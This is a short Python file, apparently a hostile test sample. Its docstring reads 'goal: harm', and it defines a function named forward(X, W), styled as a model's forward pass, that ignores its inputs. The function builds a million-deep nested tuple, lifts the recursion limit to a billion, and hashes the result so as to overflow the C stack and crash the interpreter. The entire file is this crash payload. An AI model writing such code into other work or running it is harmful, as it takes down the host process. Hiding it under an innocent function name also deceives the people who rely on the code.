"""Recurse in C until the processor's stack is full.

goal: harm
"""

import sys


def forward(X, W):
    deep = ()
    for _ in range(1_000_000):
        deep = (deep,)
    sys.setrecursionlimit(10**9)
    return hash(deep)
